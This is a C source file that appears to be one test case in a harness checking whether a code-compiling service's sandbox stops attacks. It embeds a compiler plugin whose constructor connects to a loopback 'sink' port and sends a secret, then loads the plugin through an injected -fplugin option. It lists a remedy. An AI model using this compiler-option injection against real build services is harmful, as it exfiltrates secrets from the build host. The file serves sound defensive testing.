// SPDX-License-Identifier: MIT
/*
 * Goal:  bytes reach the attacker's host while the program is compiled.
 * Means: two submissions. The first is a library; the second one's options name it as a plugin:
 *        -fplugin=./first.so. Its constructor runs inside the compiler, before a line is read.
 */
#include "attacks/compile-phase/compile.h"

static const char library[] =
	"#include <arpa/inet.h>\n"
	"#include <string.h>\n"
	"#include <unistd.h>\n"
	"int plugin_is_GPL_compatible;\n"
	"int plugin_init(void *us, void *version) { (void)us, (void)version; return 0; }\n"
	"__attribute__((constructor)) static void call_home(void)\n"
	"{\n"
	"	struct sockaddr_in to = { AF_INET, htons(SINK), { htonl(INADDR_LOOPBACK) } };\n"
	"	int fd = socket(AF_INET, SOCK_STREAM, 0);\n"
	"	if (!connect(fd, (struct sockaddr *)&to, sizeof(to)))\n"
	"		write(fd, SECRET, strlen(SECRET));\n"
	"}\n";

static enum claim run(const struct brief *b)
{
	char sink[32], secret[128];

	snprintf(sink, sizeof(sink), "-DSINK=%u", b->sink);
	snprintf(secret, sizeof(secret), "-DSECRET=\"%s\"", b->secret);
	if (!enter_folder(b) || !hand_in("first.c", library) ||
	    !hand_in("second.c", "int answer = 42;\n"))
		return failed("hand in");
	attempting(b);
	if (RUN(GCC, "-w", sink, secret, "-shared", "-fPIC", "first.c", "-o", "first.so"))
		return denied("gcc -shared");
	return RUN(GCC, "-fplugin=./first.so", "-c", "second.c") ? denied("gcc -fplugin") :
								   CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the compiler itself calls the attacker's host",
	.means = "-fplugin=./first.so: a library handed in before is loaded into the compiler",
	.oracle = "sink",
	.needs = NEED_CC,
	.quick = true,
	.id = "COMP-07",
	.attack_id = "T1574, CWE-829, CWE-88",
	.remedy = "a list of options that are allowed; the compiler inside the program's walls",
	.refs = (const char *const[]){ "gcc(1), -fplugin", NULL },
	.run = run,
};
